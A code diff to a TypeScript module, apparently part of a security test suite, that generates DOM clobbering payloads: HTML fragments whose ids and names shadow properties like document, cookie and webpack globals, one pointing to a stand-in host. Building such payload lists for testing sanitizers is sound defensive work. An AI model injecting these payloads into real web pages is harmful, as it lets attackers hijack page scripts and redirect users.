@@ -1,4 +1,4 @@
-import { pairs, payloads } from '../payload';
+import { combine, payloads } from '../payload';
 
 const NAMES = [
   'document',
@@ -19,14 +19,14 @@ const NAMES = [
   'webpackChunk_N_E',
 ];
 
-const SHAPES = [
+const TEMPLATES = [
   (name: string) => `<a id=${name}></a><a id=${name} name=href href="https://evil.example/">x</a>`,
   (name: string) => `<img name=${name} src=x><form name=${name}><input name=attributes></form>`,
 ];
 
-/** Names and ids that would stand where scripts look for something else. */
+/** Names and ids that would shadow properties of `window` and `document` (DOM clobbering). */
 export const CLOBBERING = payloads('clobbering', [
-  ...pairs(NAMES, SHAPES, (name, make) => make(name)),
+  ...combine(NAMES, TEMPLATES, (name, make) => make(name)),
   '<form id=x><output id=y>z</output></form>',
   '<iframe name=self srcdoc="<a id=x>"></iframe>',
   '<embed name=cookie><object id=cookie></object>',
